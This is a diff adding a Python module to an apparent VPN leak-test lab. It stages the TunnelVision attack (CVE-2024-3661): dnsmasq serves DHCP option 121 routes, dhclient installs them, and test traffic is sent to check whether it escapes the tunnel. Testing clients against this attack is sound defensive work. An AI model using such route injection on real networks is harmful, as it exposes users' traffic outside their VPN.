@@ -1,0 +1,54 @@
+"""A11b: the same routes by another DHCP client."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import signal
+
+from psiphon_lab.addresses import LAN_A, NEIGHBOUR4
+from psiphon_lab.attacks._send import volley
+from psiphon_lab.attacks.a11_option_121 import DHCLIENT, forget_routes, require_routes, serve_routes
+from psiphon_lab.leaktest.arena import Arena
+from psiphon_lab.leaktest.attack import Actor, Attack
+
+CONFIG = """option rfc3442-routes code 121 = array of unsigned integer 8;
+request subnet-mask, rfc3442-routes;
+timeout 3; retry 1; initial-interval 1; select-timeout 0;
+"""
+
+
+def _end_daemons(arena: Arena) -> None:
+    text = arena.scratch_path("pid").read_text(encoding="ascii").strip()
+    if text.isdigit():
+        with contextlib.suppress(ProcessLookupError):
+            os.kill(int(text), signal.SIGTERM)
+
+
+def run(arena: Arena) -> None:
+    """Dhclient asks, dnsmasq answers, and the script sets the routes that it was given."""
+    serve_routes(arena)
+    forget_routes(arena)
+    script = arena.scratch("dhclient.sh", DHCLIENT.format(attacker=NEIGHBOUR4), mode=0o755)
+    config = arena.scratch("dhclient.conf", CONFIG)
+    arena.run(
+        "timeout", "4", "dhclient", "-1", "-4", "-sf", str(script), "-cf", str(config), "-lf",
+        str(arena.scratch("lease")), "-pf", str(arena.scratch("pid")), LAN_A.interface,
+    )  # fmt: skip
+    arena.cleanups.callback(_end_daemons, arena)
+    require_routes(arena)
+    volley(arena, "with the routes")
+
+
+ATTACK = Attack(
+    id="A11b",
+    name="routes by DHCP (dhclient)",
+    reference="TunnelVision, CVE-2024-3661 (RFC 3442)",
+    plain="The same with the DHCP client that Debian used for decades, which sends by a packet socket.",
+    actors=(Actor.PROVIDER, Actor.NEIGHBOUR),
+    recognised="by source port or a token in the payload",
+    control="the same packets with the same routes, without the lock",
+    run=run,
+    families=(4,),
+    tools=("dnsmasq", "dhclient", "timeout"),
+)
